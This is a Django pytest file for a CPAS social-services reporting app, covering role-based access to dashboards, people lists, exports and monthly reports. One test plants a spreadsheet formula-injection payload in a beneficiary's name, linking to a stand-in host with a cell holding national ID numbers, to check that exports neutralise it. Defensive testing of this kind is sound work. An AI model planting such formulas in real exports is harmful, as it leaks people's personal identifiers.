"""Dashboards, the lists behind their numbers, exports, the reports page: access and content."""

import datetime
import io
from urllib.parse import parse_qs, urlsplit

import pytest
from django.urls import reverse
from django.utils import timezone

from cpas_isp.models import Role
from rapports.models import EtatRapport, RapportMensuel
from rapports.queries import PHASES, ajouter_mois
from tests.beneficiaires.factories import BeneficiaireFactory, DroitFactory
from tests.trajets.factories import PassageFactory, motif

TABLEAU = reverse("rapports:tableau_de_bord")


def _jour_de_sortie():
    """The day the fixture's people left facilitateur: the first of this month, or yesterday
    on the first of a month (a stay ending today still counts today)."""
    aujourd_hui = timezone.localdate()
    if aujourd_hui.day == 1:
        return aujourd_hui - datetime.timedelta(days=1)
    return aujourd_hui.replace(day=1)


def _peupler(cpas, n, agent=None, debut=None):
    """n people with an open RIS, all referred by agent (who follows them, issue 12); half of
    them in emploi, a quarter who left facilitateur before today, this month when today is not
    the first (positive reason)."""
    aujourd_hui = timezone.localdate()
    debut = debut or ajouter_mois(aujourd_hui, -3)
    positif = motif("positive")
    personnes = []
    for i in range(n):
        b = BeneficiaireFactory(cpas=cpas, referent=agent)
        DroitFactory(beneficiaire=b, debut=debut)
        if i % 2 == 0:
            PassageFactory(beneficiaire=b, phase="emploi", debut=debut, agent=agent)
        elif i % 4 == 1:
            PassageFactory(
                beneficiaire=b,
                phase="facilitateur",
                debut=debut,
                fin=_jour_de_sortie(),
                motif_sortie=positif,
            )
        personnes.append(b)
    return personnes


@pytest.fixture
def donnees(cpas_a, make_user):
    agent = make_user(Role.AGENT, cpas_a, cellule="emploi")
    return agent, _peupler(cpas_a, 8, agent)


@pytest.mark.parametrize(
    ("role", "cellule", "attendu"),
    [
        (Role.COORDINATEUR, None, 200),
        (Role.DIRECTEUR, None, 200),
        (Role.AGENT, "emploi", 200),
        (Role.AGENT, None, 403),  # the CPAS limits agents to their cellule: none assigned
        (Role.PARTENAIRE, None, 404),  # partner users: 404 outside their portal
        (Role.ADMIN, None, 403),
    ],
)
def test_dashboard_access_by_role(cpas_a, make_user, client_for, role, cellule, attendu):
    user = make_user(role, cpas_a, cellule=cellule)
    assert client_for(user).get(TABLEAU).status_code == attendu


def test_anonymous_is_sent_to_login(client, db):
    response = client.get(TABLEAU)
    assert response.status_code == 302 and "/connexion/" in response["Location"]


def test_agent_sees_only_the_phase_of_their_cellule(donnees, cpas_a, client_for):
    agent, _ = donnees
    response = client_for(agent).get(TABLEAU, {"cellule": "alpha"})  # ignored: imposed
    html = response.content.decode()
    ctx = response.context
    assert ctx["filtres"].cellule == "emploi" and ctx["phases"] == ["emploi"]
    assert ctx["participation"][-1].isp == 4
    assert "Facilitateur de projet" not in html.split('id="table-participation"')[1][:2000]


def test_agent_sees_every_phase_when_the_cpas_allows_it(donnees, cpas_a, client_for):
    agent, _ = donnees
    cpas_a.dashboards_agents_par_cellule = False
    cpas_a.save()
    response = client_for(agent).get(TABLEAU)
    assert response.context["filtres"].cellule is None
    assert len(response.context["phases"]) == 5


def test_director_sees_numbers_without_links(donnees, cpas_a, make_user, client_for):
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    response = client_for(directeur).get(TABLEAU)
    assert response.context["participation"][-1].ris_eris == 8
    assert reverse("rapports:personnes") not in response.content.decode()
    url = reverse("rapports:personnes") + "?indicateur=isp&date=2025-01-01"
    assert client_for(directeur).get(url).status_code == 403


def _lien(html, indicateur, **params):
    """The first people link of the page for this indicator (and these parameters)."""
    import re

    for href in re.findall(r'href="([^"]*personnes/[^"]*)"', html):
        href = href.replace("&amp;", "&")
        query = {k: v[0] for k, v in parse_qs(urlsplit(href).query).items()}
        if query.get("indicateur") == indicateur and all(
            query.get(k) == v for k, v in params.items()
        ):
            return href
    raise AssertionError(f"no link for {indicateur} {params}")


def test_every_number_links_to_its_people(donnees, cpas_a, make_user, client_for):
    agent, personnes = donnees
    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    client = client_for(coordinateur)
    html = client.get(TABLEAU).content.decode()
    aujourd_hui = timezone.localdate()
    cas = [
        (_lien(html, "ris_eris", date=aujourd_hui.isoformat()), 8),
        (_lien(html, "phase", phase="emploi", date=aujourd_hui.isoformat()), 4),
        (_lien(html, "isp", date=aujourd_hui.isoformat()), 4),
        (
            _lien(
                html,
                "sorties",
                classe="positive",
                mois=_jour_de_sortie().replace(day=1).isoformat(),
            ),
            2,
        ),
        (_lien(html, "charge", phase="emploi", charge_agent=str(agent.pk)), 4),
    ]
    for url, attendu in cas:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.context["page"].paginator.count == attendu, url
        assert response.context["masques"] == 0


def test_lists_follow_the_viewers_permissions(donnees, cpas_a, cpas_b, make_user, client_for):
    agent, personnes = donnees
    autre = make_user(Role.AGENT, cpas_a, cellule="alpha")
    _peupler(cpas_b, 4)  # another CPAS never shows
    url = (
        reverse("rapports:personnes")
        + "?"
        + "indicateur=ris_eris&date="
        + (timezone.localdate().isoformat())
    )
    response = client_for(agent).get(url)
    # The agent refers the odd half (4 people); the rest is counted but not listed.
    assert response.context["total"] == 8
    shown = {b.pk for b in response.context["page"].object_list}
    assert shown >= {b.pk for b in personnes if b.referent_id == agent.pk}
    assert response.context["masques"] == 8 - len(shown)
    assert all(b.cpas_id == cpas_a.pk for b in response.context["page"].object_list)
    assert client_for(autre).get(url).context["page"].paginator.count <= 8


def test_bad_people_link_is_refused(cpas_a, make_user, client_for):
    user = make_user(Role.COORDINATEUR, cpas_a)
    url = reverse("rapports:personnes") + "?indicateur=phase&phase=inconnue&date=2025-01-01"
    assert client_for(user).get(url).status_code == 400


def test_dashboard_runs_a_fixed_number_of_queries(
    cpas_a, make_user, client_for, requetes_de_la_page, django_assert_num_queries, settings
):
    settings.TABLEAUX_DE_BORD_SECONDES = 0  # the figures computed at every view
    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    agent = make_user(Role.AGENT, cpas_a, cellule="emploi")
    client = client_for(coordinateur)
    _peupler(cpas_a, 4, agent)
    client.get(TABLEAU)  # warm the session
    petit = requetes_de_la_page(client, TABLEAU)
    _peupler(cpas_a, 40, make_user(Role.AGENT, cpas_a, cellule="alpha"))
    with django_assert_num_queries(len(petit)):
        assert client.get(TABLEAU).status_code == 200


def test_filters_reject_a_period_in_the_wrong_order(cpas_a, make_user, client_for):
    user = make_user(Role.COORDINATEUR, cpas_a)
    response = client_for(user).get(TABLEAU, {"du": "2025-06", "au": "2025-01"})
    assert response.status_code == 200
    assert "Le mois de début doit précéder le mois de fin." in response.content.decode()


def test_csv_export_of_the_participation_table(donnees, cpas_a, make_user, client_for):
    user = make_user(Role.COORDINATEUR, cpas_a)
    response = client_for(user).get(reverse("rapports:export", args=["participation", "csv"]))
    assert response.status_code == 200
    lignes = b"".join(response.streaming_content).decode().lstrip("\ufeff").splitlines()
    assert lignes[0].startswith("Date;Dossiers RIS+ERIS;Facilitateur de projet")
    derniere = lignes[-1].split(";")
    assert derniere[0] == timezone.localdate().isoformat()
    assert derniere[1:] == ["8", "0", "0", "0", "4", "0", "4", "50,00"]


def test_xlsx_export_of_the_workload(donnees, cpas_a, make_user, client_for):
    from openpyxl import load_workbook

    agent, _ = donnees
    user = make_user(Role.COORDINATEUR, cpas_a)
    response = client_for(user).get(reverse("rapports:export", args=["charge", "xlsx"]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "Agent"
    assert rows[1][0] == agent.get_full_name() and rows[1][4] == 4 and rows[1][-1] == 4


def test_unknown_export_is_404(cpas_a, make_user, client_for):
    user = make_user(Role.COORDINATEUR, cpas_a)
    assert client_for(user).get("/rapports/export/inconnue.csv").status_code == 404
    assert client_for(user).get("/rapports/export/participation.pdf").status_code == 404


# --- Monthly reports page ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "attendu"),
    [
        (Role.COORDINATEUR, 200),
        (Role.DIRECTEUR, 200),
        (Role.AGENT, 403),
        (Role.PARTENAIRE, 404),  # partner users: 404 outside their portal
        (Role.ADMIN, 403),
    ],
)
def test_reports_page_access_by_role(cpas_a, make_user, client_for, role, attendu):
    user = make_user(role, cpas_a, cellule="emploi" if role == Role.AGENT else None)
    assert client_for(user).get(reverse("rapports:mensuels")).status_code == attendu


def _rapport(cpas, mois, tmp_path, settings, etat=EtatRapport.PRET):
    from django.core.files.base import ContentFile

    settings.MEDIA_ROOT = tmp_path
    r = RapportMensuel(cpas=cpas, mois=mois, langue="fr", etat=etat, demande_le=timezone.now())
    if etat == EtatRapport.PRET:
        r.genere_le = timezone.now()
        r.fichier.save(r.nom_fichier, ContentFile(b"%PDF-1.7 test"), save=False)
    r.save()
    return r


def test_director_downloads_a_report_of_their_cpas_only(
    cpas_a, cpas_b, make_user, client_for, tmp_path, settings
):
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    mien = _rapport(cpas_a, datetime.date(2025, 5, 1), tmp_path, settings)
    autre = _rapport(cpas_b, datetime.date(2025, 5, 1), tmp_path, settings)
    client = client_for(directeur)
    response = client.get(reverse("rapports:telecharger", args=[mien.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"%PDF-1.7 test"
    assert "rapport-isp-alpha-2025-05-fr.pdf" in response["Content-Disposition"]
    assert client.get(reverse("rapports:telecharger", args=[autre.pk])).status_code == 404
    page = client.get(reverse("rapports:mensuels"))
    assert list(page.context["rapports"]) == [mien]


def test_report_not_ready_cannot_be_downloaded(cpas_a, make_user, client_for, tmp_path, settings):
    r = _rapport(cpas_a, datetime.date(2025, 5, 1), tmp_path, settings, etat=EtatRapport.EN_COURS)
    user = make_user(Role.DIRECTEUR, cpas_a)
    assert client_for(user).get(reverse("rapports:telecharger", args=[r.pk])).status_code == 404


def test_asking_for_a_past_month_queues_its_generation(
    cpas_a, make_user, client_for, monkeypatch, django_capture_on_commit_callbacks
):
    from rapports import tasks

    envoyes = []
    monkeypatch.setattr(
        tasks.generer_rapport_mensuel,
        "apply_async",
        lambda args, task_id: envoyes.append((*args, task_id)),
    )
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(directeur).post(reverse("rapports:demander"), {"mois": "2025-03"})
    assert response.status_code == 302
    rapport = RapportMensuel.objects.get()
    assert (rapport.cpas, rapport.mois, rapport.etat) == (
        cpas_a,
        datetime.date(2025, 3, 1),
        EtatRapport.EN_ATTENTE,
    )
    assert rapport.demande_par == directeur
    assert envoyes == [(cpas_a.pk, "2025-03-01", directeur.pk, "fr", rapport.tache_id)]
    page = client_for(directeur).get(reverse("rapports:mensuels"))
    assert 'hx-trigger="every 2s"' in page.content.decode()  # the page refreshes itself


def test_a_broker_out_of_order_keeps_the_request_and_queues_it_again_later(
    cpas_a, make_user, client_for, monkeypatch, django_capture_on_commit_callbacks, caplog
):
    """Redis down when a director asks for a report: no error page, the request is kept
    (waiting), the failure is logged; the broker back, the periodic task queues it again once
    its wait has run out."""
    from kombu.exceptions import OperationalError

    from rapports import services, tasks

    def en_panne(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    monkeypatch.setattr(tasks.generer_rapport_mensuel, "apply_async", en_panne)
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(directeur).post(
            reverse("rapports:demander"), {"mois": "2025-03"}, follow=True
        )
    assert response.status_code == 200
    rapport = RapportMensuel.objects.get()
    assert rapport.etat == EtatRapport.EN_ATTENTE
    assert "RapportMensuel" in caplog.text and "not queued (broker unreachable?)" in caplog.text
    envoyes = []
    monkeypatch.setattr(
        tasks.generer_rapport_mensuel,
        "apply_async",
        lambda args, task_id: envoyes.append(task_id),
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert services.relancer_rapports_interrompus() == []  # still within its wait
    RapportMensuel.objects.update(bail_expire_le=timezone.now() - datetime.timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        assert services.relancer_rapports_interrompus() == [rapport.pk]
    assert envoyes == [rapport.tache_id]


def test_current_or_future_month_is_refused(cpas_a, make_user, client_for):
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    mois = timezone.localdate().strftime("%Y-%m")
    response = client_for(directeur).post(reverse("rapports:demander"), {"mois": mois}, follow=True)
    assert "mois terminé" in response.content.decode()
    assert not RapportMensuel.objects.exists()


def test_people_list_and_reports_page_run_a_fixed_number_of_queries(
    cpas_a, make_user, client_for, tmp_path, settings, requetes_de_la_page
):
    def _nombre_de_requetes(client, url):
        return len(requetes_de_la_page(client, url))

    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    client = client_for(coordinateur)
    agent = make_user(Role.AGENT, cpas_a, cellule="emploi")
    _peupler(cpas_a, 4, agent)
    _rapport(cpas_a, datetime.date(2025, 1, 1), tmp_path, settings)
    liste = (
        reverse("rapports:personnes")
        + "?indicateur=ris_eris&date="
        + (timezone.localdate().isoformat())
    )
    mensuels = reverse("rapports:mensuels")
    client.get(liste)
    avant = (_nombre_de_requetes(client, liste), _nombre_de_requetes(client, mensuels))
    _peupler(cpas_a, 30, make_user(Role.AGENT, cpas_a, cellule="alpha"))
    for mois in range(2, 8):
        _rapport(cpas_a, datetime.date(2025, mois, 1), tmp_path, settings)
    assert (_nombre_de_requetes(client, liste), _nombre_de_requetes(client, mensuels)) == avant


def test_coordinator_of_several_cpas_sees_their_group_table(cpas_a, cpas_b, make_user, client_for):
    from tests.cpas_isp.factories import MembershipFactory

    _peupler(cpas_a, 4)
    _peupler(cpas_b, 6)
    multi = make_user(Role.COORDINATEUR, cpas_a)
    MembershipFactory(user=multi, cpas=cpas_b, role=Role.COORDINATEUR)
    response = client_for(multi).get(TABLEAU)
    assert response.context["participation"][-1].ris_eris in (4, 6)  # the current CPAS only
    groupe = response.context["participation_groupe"][-1]
    assert (groupe.ris_eris, groupe.isp) == (10, 5)
    assert 'id="participation-groupe"' in response.content.decode()
    seul = make_user(Role.COORDINATEUR, cpas_a)
    assert "participation_groupe" not in client_for(seul).get(TABLEAU).context


def test_people_behind_a_number_are_logged(donnees, cpas_a, make_user, client_for):
    """The list behind a dashboard number writes one access log row naming the people shown
    (those the viewer may open), not those only counted."""
    from cpas_isp.models import JournalAcces

    _agent, personnes = donnees
    agent = make_user(Role.AGENT, cpas_a, cellule="alpha")
    personnes[0].referent = agent
    personnes[0].save()
    url = reverse("rapports:personnes") + f"?indicateur=ris_eris&date={timezone.localdate()}"
    response = client_for(agent).get(url)
    shown = sorted(b.pk for b in response.context["page"].object_list)
    assert shown == [personnes[0].pk] and response.context["masques"] == 7
    row = JournalAcces.objects.filter(user=agent).latest("id")
    assert sorted(row.personnes) == shown


def test_director_asks_for_the_report_in_the_other_language(
    historique,
    make_user,
    client_for,
    monkeypatch,
    settings,
    tmp_path,
    django_capture_on_commit_callbacks,
):
    """A Dutch-speaking director of a French-speaking CPAS: the form offers the CPAS's
    language by default, Dutch on demand; the Dutch report is a report of its own."""
    import re
    import shutil
    import subprocess

    from rapports import tasks

    settings.MEDIA_ROOT = tmp_path
    cpas_a, _ = historique
    envoyes = []

    def executer(args, task_id):  # the worker, in this process
        envoyes.append(args)
        return tasks.generer_rapport_mensuel.apply(args=args, task_id=task_id)

    monkeypatch.setattr(tasks.generer_rapport_mensuel, "apply_async", executer)
    directeur = make_user(Role.DIRECTEUR, cpas_a, langue="nl")
    client = client_for(directeur)
    page = client.get(reverse("rapports:mensuels")).content.decode()
    choix = re.search(r'<select name="langue"[^>]*>(.*?)</select>', page, re.S).group(1)
    assert re.search(r'<option value="fr" selected>', choix)  # the CPAS's language
    for langue in ("nl", "fr"):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("rapports:demander"), {"mois": "2025-12", "langue": langue})
    assert [a[3] for a in envoyes] == ["nl", "fr"]
    rapports = {r.langue: r for r in RapportMensuel.objects.filter(mois=datetime.date(2025, 12, 1))}
    assert set(rapports) == {"nl", "fr"} and all(r.telechargeable for r in rapports.values())
    if not shutil.which("pdftotext"):
        pytest.fail("pdftotext (poppler-utils) is required")
    textes = {}
    for langue, r in rapports.items():
        reponse = client.get(reverse("rapports:telecharger", args=[r.pk]))
        assert f"rapport-isp-alpha-2025-12-{langue}.pdf" in reponse["Content-Disposition"]
        chemin = tmp_path / f"{langue}.pdf"
        chemin.write_bytes(b"".join(reponse.streaming_content))
        textes[langue] = subprocess.run(
            ["pdftotext", str(chemin), "-"], capture_output=True, check=True
        ).stdout.decode()
    assert "Maandrapport SPI" in textes["nl"] and "Rapport mensuel ISP" not in textes["nl"]
    assert "Rapport mensuel ISP" in textes["fr"]
    liste = client.get(reverse("rapports:mensuels")).content.decode()
    assert 'id="rapport-2025-12-fr"' in liste and 'id="rapport-2025-12-nl"' in liste


def test_a_report_in_an_unknown_language_is_refused(cpas_a, make_user, client_for):
    directeur = make_user(Role.DIRECTEUR, cpas_a)
    response = client_for(directeur).post(
        reverse("rapports:demander"), {"mois": "2025-03", "langue": "de"}, follow=True
    )
    assert response.status_code == 200
    assert "Sélectionnez un choix valide" in response.content.decode()
    assert not RapportMensuel.objects.exists()


# --- Exports of the lists behind the numbers ----------------------------------------------


def _liste_url(**extra):
    from urllib.parse import urlencode

    params = {"indicateur": "ris_eris", "date": timezone.localdate().isoformat(), **extra}
    return reverse("rapports:personnes") + "?" + urlencode(params)


def _csv(response):
    return b"".join(response.streaming_content).decode().lstrip("\ufeff").splitlines()


def _lignes_de_la_page(client, **params):
    """Every row of the list page (all its pages), as its three columns show them."""
    lignes, numero = [], 1
    while True:
        page = client.get(_liste_url(page=numero, **params)).context["page"]
        for b in page.object_list:
            lignes.append([str(b), b.niss_affiche, str(b.referent) if b.referent_id else "—"])
        if not page.has_next():
            return lignes
        numero += 1


def test_coordinator_exports_the_list_behind_a_number(donnees, cpas_a, make_user, client_for):
    import csv

    from openpyxl import load_workbook

    from cpas_isp.models import JournalAcces

    _agent, personnes = donnees
    personnes[0].nom = '=HYPERLINK("http://x.example/?"&B2,"Voir")'
    personnes[0].save()
    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    client = client_for(coordinateur)
    assert 'id="export-personnes"' in client.get(_liste_url()).content.decode()
    page = [[c if c != "—" else "" for c in ligne] for ligne in _lignes_de_la_page(client)]
    assert len(page) == 8

    avant = JournalAcces.objects.count()
    rangs = list(csv.reader(_csv(client.get(_liste_url(format="csv"))), delimiter=";"))
    assert rangs[0] == ["Nom", "NISS", "Référent"]
    neutralise = [["'" + n if n.startswith("=") else n, *reste] for n, *reste in page]
    assert rangs[1:] == neutralise  # the page's rows, the formula made plain text
    assert any(r[0].startswith("'=HYPERLINK") for r in rangs)
    # One access-log row naming every exported person.
    assert JournalAcces.objects.count() == avant + 1
    journal = JournalAcces.objects.filter(user=coordinateur).latest("id")
    assert sorted(journal.personnes) == sorted(b.pk for b in personnes)
    assert "export CSV" in journal.objet

    xlsx = client.get(_liste_url(format="xlsx"))
    ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0] == ["Nom", "NISS", "Référent"]
    assert rows[1:] == [[c or None for c in ligne] for ligne in page]
    formule = next(c for c in ws["A"] if str(c.value).startswith("="))
    assert formule.data_type == "s" and formule.quotePrefix  # text, never a formula


@pytest.mark.parametrize("role", [Role.AGENT, Role.DIRECTEUR, Role.ADMIN, Role.PARTENAIRE])
def test_other_roles_cannot_export_the_list_behind_a_number(
    donnees, cpas_a, make_user, client_for, role
):
    from cpas_isp.models import JournalAcces

    user = make_user(role, cpas_a, cellule="emploi" if role == Role.AGENT else None)
    client = client_for(user)
    if role == Role.AGENT:  # sees the list, without the export buttons
        html = client.get(_liste_url()).content.decode()
        assert 'id="liste-personnes"' in html and 'id="export-personnes"' not in html
    avant = JournalAcces.objects.filter(user=user).count()
    for format in ("csv", "xlsx"):
        response = client.get(_liste_url(format=format))
        assert response.status_code in (403, 404)
        assert not response.has_header("Content-Disposition")
    assert JournalAcces.objects.filter(user=user).count() == avant


def test_export_of_the_list_keeps_the_need_to_know_scope(
    donnees, cpas_a, cpas_b, make_user, client_for
):
    """The coordinator of another CPAS exports their own CPAS's people, never cpas_a's."""
    _peupler(cpas_b, 3)
    client = client_for(make_user(Role.COORDINATEUR, cpas_b))
    lignes = _csv(client.get(_liste_url(format="csv")))
    assert {ligne.split(";")[1] for ligne in lignes[1:]} == {
        b.niss_affiche for b in cpas_b.beneficiaires.all()
    }


def _derniere_participation(response):
    return response.context["participation"][-1].ris_eris


def test_dashboard_figures_are_kept_a_few_minutes_then_computed_again(
    cpas_a, make_user, client_for, settings
):
    from freezegun import freeze_time

    settings.TABLEAUX_DE_BORD_SECONDES = 300
    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    client = client_for(coordinateur)
    _peupler(cpas_a, 4)
    premiere = client.get(TABLEAU)
    assert _derniere_participation(premiere) == 4
    heure = timezone.localtime(premiere.context["calcule_le"]).strftime("%H:%M")
    html = premiere.content.decode()
    assert f"Chiffres calculés à {heure}." in html
    assert '<a href="?recalculer=1">Recalculer maintenant</a>' in html
    _peupler(cpas_a, 2)
    # within the 5 minutes: the figures as computed, on the page and in its exports alike
    gardee = client.get(TABLEAU)
    assert _derniere_participation(gardee) == 4
    assert gardee.context["calcule_le"] == premiere.context["calcule_le"]
    export = client.get(reverse("rapports:export", args=["participation", "csv"]))
    assert b"".join(export.streaming_content).decode().splitlines()[-1].split(";")[1] == "4"
    # "Recalculer maintenant": computed now, then back to the page's own address
    filtres = {"du": f"{ajouter_mois(timezone.localdate(), -2):%Y-%m}"}
    response = client.get(TABLEAU, {**filtres, "recalculer": "1"})
    assert response.status_code == 302
    assert response["Location"] == f"{TABLEAU}?du={filtres['du']}"
    assert _derniere_participation(client.get(TABLEAU, filtres)) == 6
    assert _derniere_participation(client.get(TABLEAU)) == 4  # other filters: their own figures
    assert client.get(TABLEAU, {"recalculer": "1"})["Location"] == TABLEAU
    assert _derniere_participation(client.get(TABLEAU)) == 6
    _peupler(cpas_a, 1)
    with freeze_time(timezone.now() + datetime.timedelta(minutes=6), tick=True):
        assert _derniere_participation(client.get(TABLEAU)) == 7  # expired: computed again


def test_kept_figures_answer_only_the_same_cpas_cellule_agent_and_language(
    cpas_a, cpas_b, make_user, client_for, settings
):
    settings.TABLEAUX_DE_BORD_SECONDES = 300
    cpas_b.dashboards_agents_par_cellule = True
    cpas_b.save()
    _peupler(cpas_a, 4)
    _peupler(cpas_b, 6, make_user(Role.AGENT, cpas_b, cellule="alpha"))
    emploi = make_user(Role.AGENT, cpas_b, cellule="emploi")
    coord_a = client_for(make_user(Role.COORDINATEUR, cpas_a))
    assert _derniere_participation(coord_a.get(TABLEAU)) == 4
    coord_b = client_for(make_user(Role.COORDINATEUR, cpas_b))
    assert _derniere_participation(coord_b.get(TABLEAU)) == 6
    # the agent limited to their cellule: its phase only, not the coordinator's kept figures
    assert client_for(emploi).get(TABLEAU).context["phases"] == ["emploi"]
    assert coord_b.get(TABLEAU).context["phases"] == PHASES
    # an agent's filter: that agent's figures (the emploi agent follows nobody)
    assert coord_b.get(TABLEAU).context["charge"]
    assert not coord_b.get(TABLEAU, {"agent": emploi.pk}).context["charge"]
    assert "Sans référent" in coord_a.get(TABLEAU).content.decode()
    # the same figures in Dutch have their labels in Dutch
    html = client_for(make_user(Role.COORDINATEUR, cpas_a, langue="nl")).get(TABLEAU)
    html = html.content.decode()
    assert "Zonder referent" in html and "Sans référent" not in html
    assert "Cijfers berekend om" in html


def test_without_keeping_the_figures_are_computed_at_every_view(
    cpas_a, make_user, client_for, settings
):
    settings.TABLEAUX_DE_BORD_SECONDES = 0
    client = client_for(make_user(Role.COORDINATEUR, cpas_a))
    _peupler(cpas_a, 4)
    response = client.get(TABLEAU)
    assert response.context["calcule_le"] is None
    assert "Recalculer maintenant" not in response.content.decode()
    _peupler(cpas_a, 2)
    assert _derniere_participation(client.get(TABLEAU)) == 6


def test_a_user_who_wrote_since_sees_the_figures_computed_again(
    cpas_a, make_user, client_for, settings
):
    settings.TABLEAUX_DE_BORD_SECONDES = 300
    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
    client, collegue = client_for(coordinateur), client_for(make_user(Role.COORDINATEUR, cpas_a))
    _peupler(cpas_a, 4)
    assert _derniere_participation(client.get(TABLEAU)) == 4
    _peupler(cpas_a, 2)
    # a request that changes nothing (refused) does not count as a write
    assert client.post(reverse("notification_ouvrir", args=[999_999])).status_code == 404
    assert _derniere_participation(client.get(TABLEAU)) == 4
    # the coordinator writes (here: marks their notifications read): their next view is
    # computed again; a colleague who wrote nothing is still shown the kept figures
    assert client.post(reverse("notifications_tout_lu")).status_code == 302
    assert _derniere_participation(client.get(TABLEAU)) == 6
    _peupler(cpas_a, 1)
    assert _derniere_participation(collegue.get(TABLEAU)) == 6


def test_a_cache_server_out_of_order_leaves_the_dashboard_working(
    cpas_a, make_user, client_for, settings, monkeypatch, caplog
):
    from django.core.cache import cache

    def en_panne(*args, **kwargs):
        raise ConnectionError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    settings.TABLEAUX_DE_BORD_SECONDES = 300
    monkeypatch.setattr(cache, "get", en_panne)
    monkeypatch.setattr(cache, "set", en_panne)
    client = client_for(make_user(Role.COORDINATEUR, cpas_a))
    _peupler(cpas_a, 4)
    response = client.get(TABLEAU)
    assert response.status_code == 200 and _derniere_participation(response) == 4
    _peupler(cpas_a, 2)
    assert _derniere_participation(client.get(TABLEAU)) == 6  # computed at each view then
    assert "the cache failed" in caplog.text


def _figures_html(response) -> str:
    """The dashboard's figures (tables, charts, export buttons) as the page shows them."""
    html = response.content.decode()
    return html[html.index('<section class="mb-4" id="participation">') : html.index("</main>")]


def _figures_rendues(response) -> bool:
    return "rapports/_figures.html" in [t.name for t in response.templates]


def test_kept_figures_markup_is_reused_only_for_the_same_figures_links_and_exports(
    cpas_a, make_user, client_for, settings
):
    settings.TABLEAUX_DE_BORD_SECONDES = 300
    coordinateur = client_for(make_user(Role.COORDINATEUR, cpas_a))
    directeur = client_for(make_user(Role.DIRECTEUR, cpas_a))
    _peupler(cpas_a, 4)
    premiere = coordinateur.get(TABLEAU)
    assert _figures_rendues(premiere) and 'class="lien-nombre"' in _figures_html(premiere)
    # the same figures, links and exports: the markup as rendered, not rendered again
    seconde = coordinateur.get(TABLEAU)
    assert not _figures_rendues(seconde)
    assert _figures_html(seconde) == _figures_html(premiere)
    # the same kept figures for the director: without links to the people behind them
    pour_directeur = directeur.get(TABLEAU)
    assert pour_directeur.context["calcule_le"] == premiere.context["calcule_le"]
    assert _figures_rendues(pour_directeur)
    assert "lien-nombre" not in _figures_html(pour_directeur)
    assert 'class="lien-nombre"' in _figures_html(coordinateur.get(TABLEAU))
    # the export buttons carry the page's own query, for the same figures too
    du = f"{ajouter_mois(timezone.localdate(), -2):%Y-%m}"
    assert f"participation.csv?du={du}" in _figures_html(coordinateur.get(TABLEAU, {"du": du}))
    avec_parametre = coordinateur.get(TABLEAU, {"page": "2"})
    assert avec_parametre.context["calcule_le"] == premiere.context["calcule_le"]
    assert "participation.csv?page=2" in _figures_html(avec_parametre)
    assert "participation.csv?page=2" not in _figures_html(coordinateur.get(TABLEAU))
    # figures computed again ("Recalculer maintenant"): their markup too
    _peupler(cpas_a, 2)
    assert coordinateur.get(TABLEAU, {"recalculer": "1"}).status_code == 302
    recalculee = coordinateur.get(TABLEAU)
    assert _figures_rendues(recalculee) and _derniere_participation(recalculee) == 6
    assert _figures_html(recalculee) != _figures_html(premiere)
